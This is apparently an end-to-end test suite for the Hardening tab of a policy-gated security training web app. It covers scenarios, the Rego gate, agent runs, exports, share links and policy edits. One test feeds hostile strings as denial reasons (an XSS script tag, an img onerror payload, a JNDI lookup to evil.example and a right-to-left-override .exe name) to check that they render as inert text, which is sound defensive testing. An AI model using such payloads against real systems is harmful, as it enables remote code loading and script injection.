// End-to-end tests of the Hardening tab (issue 13 item 9): a person picks a scenario and plays
// cycles by hand (the pipeline shows the gate's decision with every reason, the forecast, the
// execution and the reward; the risk moves); an agent is watched for some cycles with the
// evaluation's charts filling in; recommend-only mode's Accept and Reject; the trajectory and
// audit downloads; the share link round-trip; denial reasons of hostile text (they come from
// Rego) render as text; the policy edited in the Rego panel so an allowed proposal is denied
// (with the new reason), broken (the error at its line, the edit before it still in force), its
// tests run, and shared in a link that opens with it. Screenshots at 1280x800 are kept in test-output/e2e/harden-*.png.
//
// scripts/test.sh builds dist/ first (trunk build --release --offline).

import assert from 'node:assert/strict';
import { mkdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';

import { REPO_ROOT, SCREENSHOT_DIR, withPage } from './support/browser.mjs';
import { serveDist } from './support/dist.mjs';

const dist = serveDist();

const DESKTOP = { width: 1280, height: 800 };

function link({ scenario = 'seed001', seed = 3, stage = 'sandbox', agent = 'human', speed = 'normal', extra = '' } = {}) {
  return `${dist.url}#v=1&scenario=${scenario}&seed=${seed}&stage=${stage}${extra}&agent=${agent}&speed=${speed}&env=harden`;
}

const button = (page, name) => page.getByRole('button', { name, exact: true });
const byTestId = (page, id) => page.getByTestId(id);
const textOf = async (page, id) => (await byTestId(page, id).first().textContent()).trim();
const numberOf = async (page, id) => Number(await textOf(page, id));
const stage = (page, key) => page.locator(`.pipe-stage[data-stage=${key}]`);
const cycleNumber = async (page) => Number((await textOf(page, 'cycle')).split(' / ')[0]);
/** The Rego panel's editor and its buttons (the run controls have a Reset of their own). */
const editor = (page) => page.locator('#rego-policy-text');
const panelButton = (page, name) => byTestId(page, 'rego-panel').getByRole('button', { name, exact: true });

async function shoot(page, name) {
  await mkdir(SCREENSHOT_DIR, { recursive: true });
  await page.screenshot({ path: path.join(SCREENSHOT_DIR, `${name}.png`) });
}

async function dismissIntro(page) {
  const gotIt = button(page, 'Got it');
  if (await gotIt.isVisible()) await gotIt.click();
}

/** Picks the first candidate whose action is `id` (and whose parameters hold `params`) and proposes it. */
async function propose(page, id, params = '') {
  const candidate = page
    .locator('.candidate')
    .filter({ has: page.locator('.candidate-action', { hasText: id }) })
    .filter({ has: page.locator('.candidate-params', { hasText: params }) })
    .first();
  await candidate.locator('input[type=radio]').check();
  await button(page, 'Propose').click();
}

/** Asserts `selectors` are drawn inside the viewport and nothing scrolls sideways. */
async function assertInFirstScreen(page, viewport, what, selectors) {
  await page.evaluate(() => window.scrollTo(0, 0));
  const boxes = await page.evaluate((sel) => {
    const out = {};
    for (const [name, s] of Object.entries(sel)) {
      const r = document.querySelector(s)?.getBoundingClientRect();
      out[name] = r ? { x: r.x, y: r.y, width: r.width, height: r.height } : null;
    }
    return out;
  }, selectors);
  for (const [name, box] of Object.entries(boxes)) {
    assert.ok(box && box.width > 0 && box.height > 0, `${what}: the ${name} is drawn (${JSON.stringify(box)})`);
    const inside =
      box.x >= -0.5 && box.y >= -0.5 && box.x + box.width <= viewport.width + 0.5 && box.y + box.height <= viewport.height + 0.5;
    assert.ok(inside, `${what}: the ${name} ${JSON.stringify(box)} is inside ${viewport.width}x${viewport.height}`);
  }
  const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(scrollWidth <= viewport.width, `${what}: no horizontal scroll (${scrollWidth}px)`);
}

const FIRST_SCREEN = {
  hud: '.harden-hud',
  twin: '[data-testid=twin]',
  pipeline: '.harden-pipeline',
  propose: '.panel-propose',
  risk: '.panel-risk',
};

test('harden: a person picks a scenario, plays cycles by hand and sees the pipeline, the decision, every reason and the risk move', async (t) => {
  await withPage(
    t,
    dist.browser,
    link({ stage: 'prod' }),
    async (page) => {
      await dismissIntro(page);
      assert.equal(await page.getByRole('tab', { name: /^Hardening/ }).getAttribute('aria-selected'), 'true');
      // Pick use case 1's scenario: a new episode on its twin.
      await page.getByLabel('Scenario').selectOption('uc01-network-exposure');
      assert.equal(await page.getByLabel('Scenario').inputValue(), 'uc01-network-exposure');
      assert.match(await textOf(page, 'cycle'), /^0 \/ \d+$/);
      const twin = byTestId(page, 'twin');
      assert.ok((await twin.textContent()).includes('storefront'), 'the twin lists its services');
      assert.ok((await twin.textContent()).includes('web-role'), 'and its principals');
      assert.ok((await twin.locator('.chip[data-level=bad]', { hasText: '0.0.0.0/0 public' }).count()) >= 1, 'the public exposure is coloured');
      const risk0 = await numberOf(page, 'risk');
      assert.ok(risk0 > 0, `risk ${risk0}`);
      assert.match(await editor(page).inputValue(), /package hardening\.network/);
      await assertInFirstScreen(page, DESKTOP, 'at the start', FIRST_SCREEN);

      // Tightening the reports API's public rule is allowed in prod: it runs and cuts the risk.
      await propose(page, 'tighten_inbound_rule', 'service=reports-api');
      assert.equal(await cycleNumber(page), 1);
      assert.equal(await textOf(page, 'decision'), 'Allowed');
      assert.equal(await stage(page, 'gate').getAttribute('data-verdict'), 'ok');
      assert.match(await stage(page, 'proposal').textContent(), /tighten_inbound_rule.*service=reports-api/);
      const forecast = (await stage(page, 'forecast').textContent()).match(/risk (\d+\.\d) → (\d+\.\d)/);
      assert.ok(forecast && Number(forecast[2]) < Number(forecast[1]), `the forecast cuts the risk: ${forecast}`);
      assert.equal((await stage(page, 'execution').locator('.pipe-head').textContent()).trim(), 'Applied');
      assert.match(await stage(page, 'reward').locator('.pipe-head').textContent(), /^[+-]\d+\.\d\d$/);
      const after = Number((await stage(page, 'reward').textContent()).match(/risk after (\d+\.\d)/)[1]);
      assert.ok(after < risk0, `the risk moved: ${risk0} -> ${after}`);
      assert.match(await stage(page, 'telemetry').textContent(), /failed auth .* public exposure/);
      assert.match(await page.locator('.panel-risk .chart-legend').textContent(), /over 1 cycle/);

      // Quarantine is denied in prod, with every reason; nothing runs.
      await propose(page, 'quarantine_workload');
      assert.equal(await cycleNumber(page), 2);
      assert.equal(await textOf(page, 'decision'), 'Denied');
      const reasons = await byTestId(page, 'reasons').locator('li').allTextContents();
      assert.ok(reasons.length >= 1 && reasons.every((r) => r.trim().length > 0), `reasons: ${reasons}`);
      assert.ok(reasons.some((r) => /approval outside the sandbox/.test(r)), `the policy's reason: ${reasons}`);
      assert.equal((await stage(page, 'execution').locator('.pipe-head').textContent()).trim(), 'Skipped');
      assert.match(await stage(page, 'execution').textContent(), /the gate denied it/);
      assert.ok((await numberOf(page, 'reward')) < 0, 'a denied proposal costs reward');
      // The evaluation so far: one of two passed both gates.
      assert.equal(await textOf(page, 'gate-pass-rate'), '0.50');
      assert.equal(await byTestId(page, 'action-distribution').locator('li').count(), 2);
      // The gate's input of the current proposal is shown beside the policy.
      assert.match(await byTestId(page, 'rego-input').first().inputValue(), /"environment": "prod"/);
      await assertInFirstScreen(page, DESKTOP, 'after two cycles', FIRST_SCREEN);
      await shoot(page, 'harden-desktop-person');
    },
    { viewport: DESKTOP, shot: 'harden-desktop-person-full' },
  );
});

test('harden: an agent is watched for some cycles; the charts of the evaluation fill in', async (t) => {
  await withPage(t, dist.browser, link({ scenario: 'uc02-pod-security', agent: 'greedy', speed: 'fast' }), async (page) => {
    await dismissIntro(page);
    assert.ok(await button(page, 'Propose').isDisabled(), 'the agent proposes, not the person');
    await button(page, 'Step').click();
    assert.equal(await cycleNumber(page), 1);
    // Played to the end of the episode, where the player stops by itself.
    await button(page, 'Play').click();
    await page.waitForFunction(() => {
      const [k, n] = document.querySelector('[data-testid=cycle]').textContent.split(' / ').map(Number);
      return k === n;
    });
    await button(page, 'Play').waitFor();
    const n = await cycleNumber(page);
    assert.ok(n >= 8, `cycles ${n}`);
    assert.match(await textOf(page, 'pipeline-cycle'), /^Cycle \d+$/);
    assert.match(await textOf(page, 'decision'), /^(Allowed|Denied)$/);
    const pass = await numberOf(page, 'gate-pass-rate');
    assert.ok(pass > 0 && pass <= 1, `greedy passes the gates: ${pass}`);
    assert.ok((await numberOf(page, 'p95-breakage')) >= (await numberOf(page, 'mean-breakage')) - 1e-9);
    assert.ok((await byTestId(page, 'action-distribution').locator('li').count()) >= 1);
    assert.ok((await page.locator('.trend-chart polyline').getAttribute('points')).split(' ').length >= 2, 'the reward trend is drawn');
    const points = (await page.locator('.risk-chart polyline').getAttribute('points')).split(' ');
    assert.equal(points.length, n + 1, 'the risk chart has a point per cycle and the start');
    assert.ok((await byTestId(page, 'twin').textContent()).includes('shop/checkout'), 'the workloads are in the twin');
    await shoot(page, 'harden-desktop-agent');
    // At Maximum speed with Keep going: the player's rate, for the README (the Rego gate judges
    // every candidate of every cycle in the page's wasm).
    await page.getByLabel('Speed').selectOption('max');
    await page.getByLabel('Keep going').check();
    await button(page, 'Play').click();
    await byTestId(page, 'steps-per-second').waitFor({ timeout: 15_000 });
    await page.waitForTimeout(2000);
    const rate = await numberOf(page, 'steps-per-second');
    await button(page, 'Pause').click();
    assert.ok(rate > 0, `rate ${rate}`);
    // The link names the seed the Keep-going run started at; a seed typed after it, that one.
    const seedOnScreen = Number(await page.getByLabel('Seed', { exact: true }).inputValue());
    const runStart = Number(new URLSearchParams(page.url().split('#')[1]).get('seed'));
    assert.ok(seedOnScreen > runStart, `the run moved on from seed ${runStart} to ${seedOnScreen}`);
    await page.getByLabel('Seed', { exact: true }).fill('42');
    await page.getByLabel('Seed', { exact: true }).press('Enter');
    await page.waitForFunction(() => /[#&]seed=42(&|$)/.test(location.hash));
    t.diagnostic(`harden uc02-pod-security greedy at Maximum speed: ${rate} cycles/s in the page`);
    console.log(`harden-bench: uc02-pod-security greedy ${rate} cycles/s (page, Maximum speed)`);
  });
});

test('harden: recommend-only mode ranks proposals with a rollback hint; Reject skips, Accept runs', async (t) => {
  await withPage(t, dist.browser, link({ extra: '&mode=recommend' }), async (page) => {
    await dismissIntro(page);
    const recs = byTestId(page, 'recommendation');
    assert.ok((await recs.count()) >= 2);
    assert.equal(await recs.first().getAttribute('data-allowed'), 'true', 'what may run ranks first');
    assert.match(await recs.first().locator('.rec-rollback').textContent(), /^Rollback: \S/);
    assert.equal(await page.getByRole('button', { name: 'Propose', exact: true }).count(), 0);
    assert.equal(await recs.first().getByRole('button', { name: 'Accept', exact: true }).count(), 1);
    assert.equal(await recs.first().getByRole('button', { name: 'Reject', exact: true }).count(), 1);

    await recs.first().getByRole('button', { name: 'Reject', exact: true }).click();
    assert.equal(await cycleNumber(page), 1);
    assert.match(await stage(page, 'proposal').textContent(), /recommendation rejected: nothing runs/);
    assert.equal((await stage(page, 'execution').locator('.pipe-head').textContent()).trim(), 'Skipped');

    await recs.first().getByRole('button', { name: 'Accept', exact: true }).click();
    assert.equal(await cycleNumber(page), 2);
    assert.match(await stage(page, 'proposal').textContent(), /recommendation accepted/);
    assert.equal(await textOf(page, 'decision'), 'Allowed');
    assert.equal((await stage(page, 'execution').locator('.pipe-head').textContent()).trim(), 'Applied');
    await shoot(page, 'harden-desktop-recommend');
  });
});

test('harden: the trajectory and the audit download as JSONL; the share link carries the run and opens it', async (t) => {
  let share;
  await withPage(t, dist.browser, link({ seed: 9 }), async (page) => {
    await dismissIntro(page);
    await propose(page, 'enforce_mfa');
    await propose(page, 'tighten_inbound_rule');
    const download = async (name) => {
      const [file] = await Promise.all([page.waitForEvent('download'), button(page, name).click()]);
      const dir = path.join(REPO_ROOT, 'test-output', 'e2e-downloads');
      await mkdir(dir, { recursive: true });
      const where = path.join(dir, file.suggestedFilename());
      await file.saveAs(where);
      return { name: file.suggestedFilename(), text: await readFile(where, 'utf8') };
    };
    const trajectory = await download('Export trajectory');
    assert.equal(trajectory.name, 'ztgym-harden-seed001-sandbox-human-seed9.jsonl');
    const [header, ...steps] = trajectory.text.trim().split('\n').map((l) => JSON.parse(l));
    assert.equal(header.env, 'harden');
    assert.deepEqual(
      steps.map((s) => s.action.id),
      ['enforce_mfa', 'tighten_inbound_rule'],
    );
    assert.equal(steps[1].t, 1);

    const audit = await download('Export audit');
    assert.equal(audit.name, 'ztgym-harden-seed001-sandbox-human-seed9-audit.jsonl');
    const rows = audit.text.trim().split('\n').map((l) => JSON.parse(l));
    for (const table of ['system_state', 'decisions', 'simulations', 'executions', 'rewards']) {
      assert.equal(rows.filter((r) => r.table === table).length, 2, table);
    }
    assert.deepEqual(
      rows.filter((r) => r.table === 'decisions').map((r) => [r.id, r.action_id]),
      [
        [1, 'enforce_mfa'],
        [2, 'tighten_inbound_rule'],
      ],
    );

    await page.getByLabel('Scenario').selectOption('uc04-waf-tuning');
    await page.getByRole('combobox', { name: /^Environment/ }).selectOption('stage');
    await page.getByLabel('Recommend only').check();
    await page.getByLabel('Agent').selectOption('bandit');
    share = await byTestId(page, 'share-link').inputValue();
    assert.match(share, /#v=1&scenario=uc04-waf-tuning&seed=9&stage=stage&mode=recommend&agent=bandit&speed=normal&env=harden$/);
    assert.match(await textOf(page, 'cycle'), /^0 \/ \d+$/, 'new settings start a new episode');
    // A bad link field is named, and the rest still applies.
  });
  await withPage(t, dist.browser, share, async (page) => {
    await dismissIntro(page);
    assert.equal(await page.getByRole('tab', { name: /^Hardening/ }).getAttribute('aria-selected'), 'true');
    assert.equal(await page.getByLabel('Scenario').inputValue(), 'uc04-waf-tuning');
    assert.equal(await page.getByRole('spinbutton', { name: 'Seed', exact: true }).inputValue(), '9');
    assert.equal(await page.getByRole('combobox', { name: /^Environment/ }).inputValue(), 'stage');
    assert.ok(await page.getByLabel('Recommend only').isChecked());
    assert.equal(await page.getByLabel('Agent').inputValue(), 'bandit');
    assert.equal(await textOf(page, 'mode'), 'stage · recommend');
    assert.ok((await byTestId(page, 'twin').textContent()).includes('/login'), 'the WAF rules are in the twin');
  }, { shot: 'harden-link-opened' });
  await withPage(t, dist.browser, link({ extra: '&stage=moon' }).replace('scenario=seed001', 'scenario=uc99'), async (page) => {
    await page.getByTestId('notice').waitFor({ state: 'visible' });
    const notice = await page.getByTestId('notice').textContent();
    assert.match(notice, /scenario "uc99"/);
    assert.match(notice, /stage "moon"/);
    assert.equal(await page.getByLabel('Scenario').inputValue(), 'seed001', 'the default instead');
  }, { shot: 'harden-bad-link' });
});

test('harden: denial reasons of hostile text (they come from Rego) render as text', async (t) => {
  await withPage(t, dist.browser, link({ extra: '&show=hostile' }), async (page) => {
    const dialogs = [];
    page.on('dialog', async (d) => {
      dialogs.push(d.message());
      await d.dismiss();
    });
    await dismissIntro(page);
    assert.match(await textOf(page, 'chosen'), /<script>alert\('reason'\)<\/script>/);
    await button(page, 'Propose').click();
    assert.equal(await textOf(page, 'decision'), 'Denied');
    const reasons = await byTestId(page, 'reasons').locator('li').allTextContents();
    assert.ok(reasons.includes("<script>alert('reason')</script> ${jndi:ldap://evil.example/a}"), `${reasons}`);
    assert.ok(reasons.includes('<img src=x onerror=alert(1)> \u202Egpj.exe'), `${reasons}`);
    assert.equal(await page.locator('.stage script, .stage img').count(), 0, 'no markup from the reasons');
    assert.ok((await editor(page).inputValue()).includes('package hostile'));
    await assertInFirstScreen(page, DESKTOP, 'hostile reasons', FIRST_SCREEN);
    assert.deepEqual(dialogs, [], 'no script ran');
    await shoot(page, 'harden-desktop-hostile');
  });
});

test('harden at 390x844: one column, every panel drawn, no horizontal scroll', async (t) => {
  const PHONE = { width: 390, height: 844 };
  await withPage(
    t,
    dist.browser,
    link({ scenario: 'uc02-pod-security' }),
    async (page) => {
      await dismissIntro(page);
      await button(page, 'Propose').click();
      assert.equal(await cycleNumber(page), 1);
      const heights = await page.evaluate(() =>
        ['[data-testid=twin]', '[data-testid=pipeline]', '.candidates', '.panel-propose', '.risk-chart', '[data-testid=metrics]'].map((s) => [
          s,
          Math.round(document.querySelector(s)?.getBoundingClientRect().height ?? 0),
        ]),
      );
      for (const [s, h] of heights) assert.ok(h > 40, `${s} is drawn (${h}px)`);
      const scrollWidth = await page.evaluate(() => document.documentElement.scrollWidth);
      assert.ok(scrollWidth <= PHONE.width, `no horizontal scroll (${scrollWidth}px)`);
      await shoot(page, 'harden-phone');
    },
    { viewport: PHONE, shot: 'harden-phone-full' },
  );
});

test('harden: the policy is edited so an allowed proposal is denied, broken at a line, tested, and shared in a link', async (t) => {
  const FREEZE = 'change freeze: no inbound rule changes this week';
  const CANDIDATE = { action: 'tighten_inbound_rule', params: 'service=reports-api' };
  const candidate = (page) =>
    page
      .locator('.candidate')
      .filter({ has: page.locator('.candidate-action', { hasText: CANDIDATE.action }) })
      .filter({ has: page.locator('.candidate-params', { hasText: CANDIDATE.params }) })
      .first();
  let shared;
  await withPage(t, dist.browser, link({ scenario: 'uc01-network-exposure', stage: 'prod' }), async (page) => {
    await dismissIntro(page);
    const shipped = await editor(page).inputValue();
    assert.match(await candidate(page).textContent(), /gate allows/, 'allowed under the shipped policy');
    const edited = `${shipped}\ndeny contains "${FREEZE}" if input.action.id == "tighten_inbound_rule"\n`;
    await editor(page).fill(edited);
    await panelButton(page, 'Apply').click();
    await page.waitForFunction(() => location.hash.includes('&rego='));
    assert.match(await textOf(page, 'rego-status'), /in force/);
    assert.match(await candidate(page).textContent(), /gate denies/, 'the same proposal, judged again');
    await propose(page, CANDIDATE.action, CANDIDATE.params);
    assert.equal(await textOf(page, 'decision'), 'Denied');
    const reasons = await byTestId(page, 'reasons').locator('li').allTextContents();
    assert.ok(reasons.some((r) => r.includes(FREEZE)), `the new reason: ${reasons}`);
    assert.equal((await stage(page, 'execution').locator('.pipe-head').textContent()).trim(), 'Skipped');

    // Its tests: the shipped test that tightening with a ticket is allowed now fails.
    await panelButton(page, 'Run tests').click();
    await page.waitForFunction(() => /\d+ passed, [1-9]\d* failed/.test(document.querySelector('[data-testid=rego-tests]')?.textContent ?? ''));
    assert.match(await textOf(page, 'rego-tests'), /FAIL\s+test_tighten_with_ticket_allowed/);
    shared = await byTestId(page, 'share-link').inputValue();

    // Broken at line 3: the error names it; the edit stays in force and in the link.
    const hashBefore = await page.evaluate(() => location.hash);
    await editor(page).fill('package hardening.network\n\nallow if {\n');
    await panelButton(page, 'Apply').click();
    await page.waitForFunction(() => /Line \d+, column/.test(document.querySelector('[data-testid=rego-error]')?.textContent ?? ''));
    assert.match(await textOf(page, 'rego-error'), /Line 4, column 1/);
    assert.equal(await page.evaluate(() => location.hash), hashBefore, 'the policy in force is unchanged');
    await propose(page, CANDIDATE.action, CANDIDATE.params);
    assert.equal(await textOf(page, 'decision'), 'Denied', 'still the edit in force');
    await shoot(page, 'harden-desktop-rego-error');
  }, { shot: 'harden-rego-edited' });

  assert.match(shared, /&rego=1/);
  await withPage(t, dist.browser, shared, async (page) => {
    await dismissIntro(page);
    assert.ok((await editor(page).inputValue()).includes(FREEZE), 'the link opens with the edit');
    assert.match(await candidate(page).textContent(), /gate denies/);
    await propose(page, CANDIDATE.action, CANDIDATE.params);
    const reasons = await byTestId(page, 'reasons').locator('li').allTextContents();
    assert.ok(reasons.some((r) => r.includes(FREEZE)), `${reasons}`);
  }, { shot: 'harden-rego-link-opened' });
});
